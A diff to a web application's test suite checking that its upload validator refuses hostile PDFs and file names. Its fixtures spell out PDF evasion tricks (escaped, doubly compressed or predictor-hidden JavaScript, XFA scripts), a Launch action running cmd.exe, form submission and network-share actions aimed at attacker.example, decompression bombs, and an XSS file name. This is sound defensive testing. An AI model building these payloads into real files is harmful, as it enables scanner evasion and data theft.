@@ -1,9 +1,11 @@
+import { monitorEventLoopDelay } from 'node:perf_hooks';
 import zlib from 'node:zlib';
 import { signIn, useTestApp, type Agent } from '../support/harness';
 import { createCycle } from '../support/fixtures';
 import { completeFields, fieldError, inputValue, postForm, textOf, JPEG, PDF, PDF_WITH_SCRIPT, PNG, type Fields, type Upload } from '../support/officer-forms';
 import { solidPng } from '../certificates/images';
 import { readable, tableFingerprints } from './support';
+import { flate, flateBombs, flateTwice, flateWithPngPredictor, manyStreamKeywords, objectStreamData, pdfOf, pdfkitDocument, streamOf, withHiddenObjects } from '../web/pdf-files';
 
 const MB = 1024 * 1024;
 const pdfOfSize = (bytes: number) => Buffer.concat([PDF, Buffer.alloc(bytes - PDF.length, 0x20)]);
@@ -15,6 +17,14 @@ const hiddenScript = (() => {
 /** A scan whose image bytes happen to hold `/JS` (three bytes: in megabytes of image data they turn up by chance). */
 const scanWithUnluckyBytes = Buffer.concat([Buffer.from('%PDF-1.4\n1 0 obj\n<< /Subtype /Image /Length 16 /Filter /DCTDecode >>\nstream\n'), Buffer.from('\xff\xd8\xff/JS\x9c\x00/JSx/JS\x01\xff', 'latin1'), Buffer.from('\nendstream\nendobj\n%%EOF\n')]);
 const HOSTILE_NAME = '<img src=x onerror=alert(1)>.pdf';
+const SCRIPT_ACTION = '<< /S /JavaScript /JS (app.alert(1)) >>';
+const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`;
+const PAGES = '<< /Type /Pages /Kids [] /Count 0 >>';
+const openAction = (action: string) => pdfOf([catalog(`/OpenAction ${action}`), PAGES]);
+const XFA_WITH_SCRIPT = pdfOf([catalog('/AcroForm << /XFA 3 0 R >>'), PAGES, streamOf('/Filter /FlateDecode', zlib.deflateSync(Buffer.from('<xdp:xdp><template><subform><event activity="initialize"><script>app.alert(1)</script></event></subform></template></xdp:xdp>')))]);
+const ENCRYPTED = pdfOf([catalog(''), PAGES, '<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'], { trailer: '/Encrypt 3 0 R /ID [<01> <01>]' });
+const UNDECODABLE_OBJECTS = pdfOf([catalog(''), PAGES, streamOf(`${objectStreamData(['<< >>'], 4).entries} /Filter /FlateDecode`, Buffer.from('not flate data'))]);
+const SCRIPT_REFUSED = 'содержит сценарии, вложения или действия, которые сами открывают программы, файлы или адреса';
 
 /**
  * A multipart body carrying file names exactly as given. supertest's form-data cuts a name to its last
@@ -86,12 +96,22 @@ describe('uploads: refused with a clear message, nothing stored', () => {
       ['a text file named .pdf', [{ name: 'notes.pdf', data: Buffer.from('just some text') }], 400, 'Файл «notes.pdf» не является PDF, JPEG или PNG'],
       ['a PNG named .pdf', [{ name: 'photo.pdf', data: PNG }], 400, 'Файл «photo.pdf» не является PDF, JPEG или PNG'],
       ['a PDF named .jpg', [{ name: 'scan.jpg', data: PDF }], 400, 'Файл «scan.jpg» не является PDF, JPEG или PNG'],
-      ['a PDF carrying JavaScript', [{ name: 'active.pdf', data: PDF_WITH_SCRIPT }], 400, 'Файл «active.pdf» содержит сценарии или вложения'],
-      ['a PDF spelling its JavaScript action with #xx escapes', [{ name: 'escaped.pdf', data: Buffer.from('%PDF-1.4\n1 0 obj<< /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>endobj\n%%EOF\n') }], 400, 'Файл «escaped.pdf» содержит сценарии или вложения'],
-      ['a PDF hiding its JavaScript in a compressed object stream', [{ name: 'hidden.pdf', data: hiddenScript }], 400, 'Файл «hidden.pdf» содержит сценарии или вложения'],
-      ['a PDF hiding its object stream behind fake stream markers', [{ name: 'comment.pdf', data: Buffer.concat([Buffer.from('%PDF-1.5\n%stream\n'), hiddenScript.subarray(9, hiddenScript.indexOf('/N 1')), Buffer.from('/X (stream\n) '), hiddenScript.subarray(hiddenScript.indexOf('/N 1'))]) }], 400, 'Файл «comment.pdf» содержит сценарии или вложения'],
-      ['a PDF whose object stream is hex-encoded', [{ name: 'hex.pdf', data: Buffer.from(`%PDF-1.5\n2 0 obj\n<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n${Buffer.from('3 0 << /S /JavaScript >>').toString('hex')}>\nendstream\nendobj\n%%EOF\n`) }], 400, 'Файл «hex.pdf» содержит сценарии или вложения'],
-      ['a PDF launching a program', [{ name: 'launch.pdf', data: Buffer.from('%PDF-1.4\n1 0 obj<< /OpenAction << /S /Launch /F (cmd.exe) >> >>endobj\n%%EOF\n') }], 400, 'Файл «launch.pdf» содержит сценарии или вложения'],
+      ['a PDF carrying JavaScript', [{ name: 'active.pdf', data: PDF_WITH_SCRIPT }], 400, `Файл «active.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF spelling its JavaScript action with #xx escapes', [{ name: 'escaped.pdf', data: Buffer.from('%PDF-1.4\n1 0 obj<< /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>endobj\n%%EOF\n') }], 400, `Файл «escaped.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF hiding its JavaScript in a compressed object stream', [{ name: 'hidden.pdf', data: hiddenScript }], 400, `Файл «hidden.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF hiding its object stream behind fake stream markers', [{ name: 'comment.pdf', data: Buffer.concat([Buffer.from('%PDF-1.5\n%stream\n'), hiddenScript.subarray(9, hiddenScript.indexOf('/N 1')), Buffer.from('/X (stream\n) '), hiddenScript.subarray(hiddenScript.indexOf('/N 1'))]) }], 400, `Файл «comment.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF whose object stream is hex-encoded', [{ name: 'hex.pdf', data: Buffer.from(`%PDF-1.5\n2 0 obj\n<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n${Buffer.from('3 0 << /S /JavaScript >>').toString('hex')}>\nendstream\nendobj\n%%EOF\n`) }], 400, `Файл «hex.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF launching a program', [{ name: 'launch.pdf', data: Buffer.from('%PDF-1.4\n1 0 obj<< /OpenAction << /S /Launch /F (cmd.exe) >> >>endobj\n%%EOF\n') }], 400, `Файл «launch.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF hiding JavaScript in an object stream compressed twice', [{ name: 'twice.pdf', data: withHiddenObjects([SCRIPT_ACTION], flateTwice) }], 400, `Файл «twice.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF hiding JavaScript behind a PNG predictor', [{ name: 'predictor.pdf', data: withHiddenObjects([SCRIPT_ACTION], (d) => flateWithPngPredictor(d)) }], 400, `Файл «predictor.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF with an XFA form running a script', [{ name: 'xfa.pdf', data: XFA_WITH_SCRIPT }], 400, `Файл «xfa.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF opening another file on a network share', [{ name: 'gotor.pdf', data: openAction('<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>') }], 400, `Файл «gotor.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF sending its form on opening', [{ name: 'submit.pdf', data: openAction('<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>') }], 400, `Файл «submit.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF importing form data on opening', [{ name: 'import.pdf', data: openAction('<< /S /ImportData /F (data.fdf) >>') }], 400, `Файл «import.pdf» ${SCRIPT_REFUSED}`],
+      ['a PDF opening a web address by itself', [{ name: 'uri.pdf', data: openAction('<< /S /URI /URI (https://attacker.example/) >>') }], 400, `Файл «uri.pdf» ${SCRIPT_REFUSED}`],
+      ['an encrypted PDF', [{ name: 'locked.pdf', data: ENCRYPTED }], 400, 'Файл «locked.pdf» защищён паролем или зашифрован, поэтому его нельзя проверить; сохраните копию без защиты.'],
+      ['a PDF whose object stream does not decode', [{ name: 'broken.pdf', data: UNDECODABLE_OBJECTS }], 400, 'Файл «broken.pdf» повреждён или сжат способом, который нельзя проверить; сохраните его заново как обычный PDF.'],
+      ['a PDF of Flate bombs', [{ name: 'bomb.pdf', data: flateBombs() }], 400, 'Файл «bomb.pdf» нельзя проверить: в распакованном виде он больше 64 МБ или состоит из слишком многих частей'],
       ['a file whose name is markup', [{ name: HOSTILE_NAME, data: Buffer.from('text') }], 400, 'Файл «<img src=x onerror=alert(1)>.pdf» не является'],
       ['eleven files', Array.from({ length: 11 }, (_, i) => ({ name: `doc${i}.pdf`, data: PDF, slot: i % 3 })), 400, 'К заявке можно приложить не больше 10 файлов.'],
     ];
@@ -184,6 +204,40 @@ describe('uploads: refused with a clear message, nothing stored', () => {
       expect(names).toEqual(['скан паспорта 1.pdf', 'отчёт..итог.pdf']);
     });
 
+    it('says an encrypted PDF cannot be checked in English to an English reader', async () => {
+      const english = await signIn(t.app, 'officer@example.org');
+      await english.agent.get('/lang/en').expect(303);
+      const res = await postForm(english.agent, `/officer/cycles/${cycleId}/nominations`, english.csrf, { ...completeFields(categoryId), action: 'save' }, [{ name: 'locked.pdf', data: ENCRYPTED }]);
+      expect(res.status).toBe(400);
+      expect(readable(res.text)).toContain('The file “locked.pdf” is password-protected or encrypted, so it cannot be checked; save a copy without protection.');
+    });
+
+    it('accepts a real compressed PDF (made by PDFKit, as the app makes certificates) with an image and a link to click', async () => {
+      const cv = await pdfkitDocument({ link: 'https://pubmed.ncbi.nlm.nih.gov/', image: solidPng(40, 40) });
+      const res = await create([{ name: 'резюме.pdf', data: cv }, { name: 'объекты.pdf', data: withHiddenObjects(['<< /S /GoTo /D [2 0 R /Fit] >>'], flate), slot: 1 }]);
+      expect(res.status).toBe(303);
+    });
+
+    it.each([
+      ['100 KB of `stream` keywords (once quadratic: 10 s)', manyStreamKeywords(), 303],
+      ['twenty Flate bombs (once 3 s)', flateBombs(), 400],
+    ])('scans %s without holding the event loop: other requests are answered meanwhile', async (_what, data, status) => {
+      const delay = monitorEventLoopDelay({ resolution: 10 });
+      delay.enable();
+      let res;
+      try {
+        res = await create([{ name: 'hostile.pdf', data }]);
+      } finally {
+        delay.disable();
+      }
+      expect(res.status).toBe(status);
+      // The old scan held the loop for 10 s and 3 s. The whole request is measured here, and saving through the
+      // embedded database (synchronous WebAssembly) alone holds it for 100–200 ms on a busy machine, so the bound
+      // is a second (what /healthz may wait in a deadline rush); the scan's own bound (250 ms on a shared machine, slices of 8 ms by design) is proved in
+      // test/web/pdf-scan.test.ts.
+      expect(delay.max / 1e6).toBeLessThan(1000);
+    });
+
     it('accepts a scan whose image bytes merely contain "/JS", with no script after it', async () => {
       const res = await create([{ name: 'скан.pdf', data: scanWithUnluckyBytes }, { name: 'фото.jpg', data: JPEG, slot: 1 }]);
       expect(res.status).toBe(303);
@@ -202,7 +256,7 @@ describe('uploads: refused with a clear message, nothing stored', () => {
       ['text named .png', 'background', { data: Buffer.from('not an image'), name: 'фон.png' }, 400, 'Файл «фон.png» не является PDF, JPEG или PNG'],
       ['a PNG named .pdf', 'emblem', { data: solidPng(), name: 'герб.pdf' }, 400, 'Файл «герб.pdf» не является PDF, JPEG или PNG'],
       ['a PDF', 'emblem', { data: PDF, name: 'герб.pdf' }, 400, 'Файл «герб.pdf» — не изображение; нужен PNG или JPEG.'],
-      ['a PDF with JavaScript', 'background', { data: PDF_WITH_SCRIPT, name: 'фон.pdf' }, 400, 'Файл «фон.pdf» содержит сценарии или вложения'],
+      ['a PDF with JavaScript', 'background', { data: PDF_WITH_SCRIPT, name: 'фон.pdf' }, 400, 'Файл «фон.pdf» — не изображение; нужен PNG или JPEG.'],
       ['only the signature of a PNG', 'background', { data: PNG, name: 'фон.png' }, 400, 'Изображение «фон.png» не удалось прочитать'],
       ['named with markup', 'emblem', { data: Buffer.from('x'), name: '<img src=x onerror=alert(1)>.png' }, 400, 'не является PDF, JPEG или PNG'],
     ];
